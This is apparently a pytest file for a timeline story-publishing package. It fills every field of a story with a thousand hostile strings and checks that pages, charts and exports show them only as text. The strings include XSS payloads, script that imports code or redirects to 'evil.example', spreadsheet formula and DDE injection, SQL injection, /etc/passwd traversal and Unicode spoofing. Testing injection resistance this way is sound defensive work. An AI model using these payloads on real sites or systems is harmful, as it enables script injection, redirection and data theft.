"""A thousand hostile strings in every text field of a story: shown as text, never anything else."""

from __future__ import annotations

import json
from functools import cache
from html.parser import HTMLParser
from itertools import cycle, islice, product

import pytest

from timeline.chronology import resolve
from timeline.dates import read_date
from timeline.exchange import EXPORTERS, to_worksheet
from timeline.exchange.packing import packed
from timeline.layout import lay_out
from timeline.marks import paint_plotly
from timeline.markup import reader_panel
from timeline.markup.offline import Enclosed, offline_page
from timeline.reader import element_data, element_html
from timeline.reader.parts import part_of
from timeline.story import Event, Lane, Outlet, Person, Quotation, Source, Story, Term
from timeline.table import to_table
from timeline.timeline import make_timeline
from timeline.wording import RIGHT_TO_LEFT

# Ours, by what each is after; {n} tells one from another.
_ACTS = ("window.broken={n}", "top.location='//evil.example/{n}'", "import('//evil.example/{n}')")
_MARKUP = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg/onload={act}>",
    "<details open ontoggle={act}>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<style>@import '//evil.example/{n}';</style>",
    "<a href=javascript:{act}>go</a>",
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<form action=//evil.example/{n}><input name=q>",
    "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<!--><script>{act}</script>-->",
    "<![CDATA[<script>{act}</script>]]>",
    "</title></style></textarea></noscript><script>{act}</script>",
    '" onmouseover="{act}" x="',
    "' autofocus onfocus='{act}' x='",
    "` onload={act} `",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
)
_LANGUAGES = (
    "{{{{ {n} * 7 }}}} {{% for x in y %}}",
    "${{{n}}} #{{{n}}} <%= {n} %>",
    "%{{x}} %{{customdata}} {n}",
    "**bold{n}** _it_ [go](javascript:alert({n})) ![x](//evil.example/{n}.png)",
    ":red[{n}] :smile: $x^{n}$ :material/home:",
    "=HYPERLINK(\"//evil.example/{n}\";\"go\")",
    "@SUM(A{n}:A9)",
    "+{n}+cmd|' /C calc'!A0",
    "'; DROP TABLE events; -- {n}",
    "../../../../etc/passwd{n}",
    "file:///etc/passwd#{n}",
    "null", "undefined", "NaN", "True", "[object Object] {n}", "-1e309 {n}",
    "__proto__ {n}", "constructor.prototype {n}",
    "\u202egnp.exe {n}", "\u200bzero{n}\u200b", "\ufeffmark {n}", "e\u0301\u0301\u0301\u0301 {n}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 {n}", "田中さんにあげて下さい {n}",
    "הָיְתָה {n}", "ٱلسَّلَام {n}",
    "<br>line{n}", "<b>bold {n}</b>", "<a href=\"//evil.example/{n}\">go</a>",
    "<sup>{n}</sup>", "&amp;amp; &copy {n}", "]]> --> */ // {n}",
)  # fmt: skip
_PATTERNS = tuple(product(_MARKUP + _LANGUAGES, _ACTS))
STRINGS = [
    pattern.replace("{act}", act).format(n=number)
    for number, (pattern, act) in enumerate(islice(cycle(_PATTERNS), 1_000))
]


def affair(texts: list[str]) -> Story:
    """A story that holds one of `texts` in every text field of each event, and in its own."""
    first = texts[0]
    return Story(
        title=first,
        standfirst=first,
        sources=(
            Source(
                id="s",
                publisher=first,
                title=first,
                author=first,
                published=read_date("2018-04-22"),
                note=first,
            ),
        ),
        outlets=(Outlet(id="o", name=first),),
        people=(Person(id="p", name=first, named="full", role=first, standing=first),),
        lanes=(Lane(id="l", label=first),),
        terms=(Term(term=first, meaning=first),),
        events=tuple(
            Event(
                id=f"e{number}",
                date=read_date("2012"),
                headline=text,
                summary=text,
                lane="l",
                people=("p",),
                quotations=(
                    Quotation(
                        exact=text, kind="speech", speaker="p", via=("o",), source="s", paragraph=1
                    ),
                ),
                question=text,
                notes=text,
            )
            for number, text in enumerate(texts)
        ),
    )


class Structure(HTMLParser):
    """The elements of a page with the names of their attributes, without any text."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.words: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def markups(story: Story) -> dict[str, str]:
    """Every part of the page and every page that goes out, as HTML, for a story of one event."""
    timeline = make_timeline(story)
    told = [part_of(timeline, timeline, name) for name in ("panels-0", "pages")]
    parts = {name: html for part in told if isinstance(part, dict) for name, html in part.items()}
    enclosed = Enclosed(packed(element_data(timeline, is_served=False)), "", ())
    return parts | {
        "reader": element_html(timeline),
        "offline page": offline_page(story, parts, enclosed),
        "worksheet": to_worksheet(timeline, copy="teacher"),
    }


@cache
def plain(*, is_long: bool) -> dict[str, Structure]:
    """Return the parts of a story of plain words; a long title is set in smaller type."""
    words = "words " * (5 if is_long else 1)
    return {part: Structure(html) for part, html in markups(affair([words])).items()}


def undirected(element: tuple[str, tuple[str, ...]]) -> tuple[str, tuple[str, ...]]:
    """Return an element without its direction, which stands only beside what runs leftwards."""
    tag, names = element
    return tag, tuple(name for name in names if name != "dir")


@pytest.mark.long
@pytest.mark.parametrize("text", STRINGS[:: len(STRINGS) // 25])
def test_no_part_of_the_page_holds_an_element_made_of_text(text: str) -> None:
    """Only what is written from right to left is set apart, by our own `bdi`."""
    kept = ("bdi", ())
    for part, html in markups(affair([text])).items():
        own = plain(is_long=len(text) > 20)[part].elements
        found = Structure(html).elements
        if RIGHT_TO_LEFT.search(text) or "\u202e" in text:
            own, found = (
                [undirected(each) for each in some if each != kept] for some in (own, found)
            )
        assert found == own, part


@pytest.mark.long
def test_strings_stand_in_the_panels_letter_by_letter() -> None:
    strings = STRINGS[::3]
    timeline = make_timeline(affair(strings))
    for identity, text in zip(timeline.chronology.order, strings, strict=True):
        event = timeline.story.event(identity)
        panel = Structure(reader_panel(timeline, identity))
        assert "".join(panel.words).count(event.headline) >= 4, text
        assert {tag for tag, _ in panel.elements}.isdisjoint(
            {"script", "img", "iframe", "svg", "a"}
        )


@pytest.mark.long
def test_a_thousand_strings_are_only_text_in_the_chart() -> None:
    story = affair(STRINGS)
    table = to_table(story, resolve(story))
    figure = paint_plotly(lay_out(table, {lane.id: lane.label for lane in story.lanes}))
    for trace in figure.data:
        for field in (trace.text, trace.hovertext):
            texts = field if isinstance(field, list | tuple) else []
            assert [text for text in texts if "<" in text] == []
    assert all("<" not in note.text.removeprefix("<b>").removesuffix("</b>")
               for note in figure.layout.annotations)  # fmt: skip


@pytest.mark.long
def test_exports_hold_a_thousand_strings_as_they_are() -> None:
    story = affair(STRINGS)
    written = json.loads(EXPORTERS["json"](make_timeline(story)))
    assert [event["headline"] for event in written["story"]["events"]] == [
        event.headline for event in story.events
    ]
